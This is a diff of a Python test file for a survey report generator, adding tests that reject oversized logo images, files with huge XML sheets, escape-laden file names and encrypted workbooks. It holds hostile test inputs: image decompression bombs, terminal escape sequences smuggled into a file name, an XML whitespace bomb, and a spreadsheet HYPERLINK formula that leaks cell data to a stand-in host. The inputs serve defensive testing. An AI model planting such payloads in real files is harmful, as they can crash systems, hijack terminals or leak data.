@@ -9,11 +9,13 @@ import json
 import os
 import re
 import signal
+import struct
 import subprocess
 import sys
 import tempfile
 import time
 import zipfile
+import zlib
 from collections.abc import Callable
 from pathlib import Path
 
@@ -26,7 +28,9 @@ from reportgen.cli import main
 from reportgen.config import bundled_templates
 from reportgen.models import BuildResult
 from reportgen.output import writer
+from reportgen.report.brand import load_brand
 from reportgen.report.templates import environment, fill
+from reportgen.survey import reader
 
 from .conftest import IDENTITY, item_headers, leader_row, pdf_text
 
@@ -383,3 +387,88 @@ def test_score_csv_protects_formula_looking_texts_as_the_manifest_does(workbook:
     assert record["name"] == '\'=HYPERLINK("http://x.example/?"&A1,"klik")'
     assert record["score_purpose"] == "50.0"
     assert writer.csv_unsafe(record["name"]).startswith("=HYPERLINK(")
+
+
+def _png(width: int, height: int) -> bytes:
+    """A real, valid PNG: one-bit grey, every pixel black; tiny on disk, huge when decoded."""
+
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+    rows = (b"\x00" + b"\x00" * ((width + 7) // 8)) * height
+    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
+    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows, 9)) + chunk(b"IEND", b"")
+
+
+LOGOS = {
+    "logo.png": _png(8000, 8000),
+    # SOI, then a start-of-frame (baseline) for 6000 × 9000 pixels, three components.
+    "logo.jpg": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
+    + b"\xff\xc0\x00\x11\x08"
+    + struct.pack(">HH", 9000, 6000)
+    + b"\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01\xff\xd9",
+    "logo.svg": b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9000 90"><rect width="9" height="9"/></svg>',
+}
+
+
+@pytest.mark.parametrize(("name", "size"), [("logo.png", "8,000 × 8,000"), ("logo.jpg", "6,000 × 9,000"),
+                                            ("logo.svg", "9,000 × 90")])  # fmt: skip
+def test_a_logo_past_the_pixel_limit_is_refused_by_the_brand_check(
+    tmp_path: Path, one_leader: Path, name: str, size: str
+) -> None:
+    brand = make_brand(tmp_path / "brand", {})
+    (brand / name).write_bytes(LOGOS[name])
+    toml = (brand / "brand.toml").read_text("utf-8")
+    (brand / "brand.toml").write_text(re.sub(r'(?m)^logo = ".*"', f'logo = "{name}"', toml), "utf-8")
+    code, output = run("build", str(one_leader), "--brand", str(brand), "-o", str(tmp_path / "out"))
+    assert code == 2
+    assert f"logo: {name} is {size} pixels; a logo may be at most 4,000 pixels a side" in output
+    assert not (tmp_path / "out").exists()
+
+
+def test_a_logo_within_the_limit_passes_the_brand_check(tmp_path: Path) -> None:
+    brand = make_brand(tmp_path / "brand", {})
+    (brand / "logo.png").write_bytes(_png(1200, 400))
+    toml = (brand / "brand.toml").read_text("utf-8")
+    (brand / "brand.toml").write_text(re.sub(r'(?m)^logo = ".*"', 'logo = "logo.png"', toml), "utf-8")
+    assert load_brand(brand, bundled_templates()).logo == (brand / "logo.png").resolve()
+
+
+def test_check_shows_terminal_escapes_from_the_export_instead_of_sending_them(tmp_path: Path) -> None:
+    # The reader removes them from cells; a file name (here) or a sheet name can still hold them.
+    survey = tmp_path / "survey\x1b[2J\x1b]0;owned\x07.csv"
+    with survey.open("w", encoding="utf-8", newline="") as file:
+        csv.writer(file).writerows([IDENTITY + item_headers(), leader_row("Ida Holm", "ida@example.dk", 4)])
+    code, output = run("check", str(survey))
+    assert code in (0, 1), output
+    assert "\x1b" not in output and "\x07" not in output
+    assert "survey\\x1b[2J\\x1b]0;owned\\x07.csv" in output
+
+
+def test_a_sheet_of_blank_xml_past_the_limit_is_refused_before_it_is_read(
+    workbook: Callable[..., Path], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # 3 MB of whitespace inside the sheet: valid XML, a few KB zipped. The limit is lowered to 1 MB
+    # (the real one is 200 MB) to keep the test small; the 600 MB original took 148 s to read.
+    padded = _rewrite_sheet(
+        workbook([leader_row("A B", "a@example.dk", 3)]),
+        lambda xml: xml.replace("<sheetData>", "<sheetData>" + " " * 3_000_000),
+    )
+    assert padded.stat().st_size < 100_000
+    monkeypatch.setattr(reader, "MAX_PART_BYTES", 1024**2)
+    code, output = run("check", str(padded))
+    assert code == 2
+    assert "holds a part (xl/worksheets/sheet1.xml) whose XML unpacks to 3 MB" in output
+    assert "at most 1 MB of XML per sheet" in output
+    monkeypatch.setattr(reader, "MAX_PART_BYTES", 4 * 1024**2)
+    assert run("check", str(padded))[0] == 0
+
+
+def test_an_encrypted_workbook_is_named_password_protected_not_damaged(tmp_path: Path) -> None:
+    # Excel saves a password-protected workbook as an OLE2 compound file, whatever its name.
+    path = tmp_path / "survey.xlsx"
+    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 4096)
+    code, output = run("check", str(path))
+    assert code == 2
+    assert "survey.xlsx: The workbook is password-protected (encrypted)" in output
+    assert "damaged" not in output and "Encrypt with Password" in output
